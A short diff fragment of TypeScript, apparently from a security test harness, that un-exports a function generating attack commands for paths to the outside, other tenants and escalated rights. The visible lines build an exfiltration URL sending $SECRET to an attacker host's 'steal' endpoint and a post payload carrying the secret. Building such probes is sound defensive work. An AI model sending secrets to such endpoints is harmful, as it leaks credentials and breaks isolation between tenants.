@@ -14,7 +14,7 @@ interface Command {
 }
 
 /** Every way to the outside, to another tenant and to more rights that a tool could be. */
-export function commandsOf({ attacker, foreign, keyId }: Target): Command[] {
+function commandsOf({ attacker, foreign, keyId }: Target): Command[] {
   const stolen = `${attacker}/steal?what=$SECRET`;
   const post = { content: "$SECRET", title: "Hi", platformConfigId: "plat_1" };
   return [
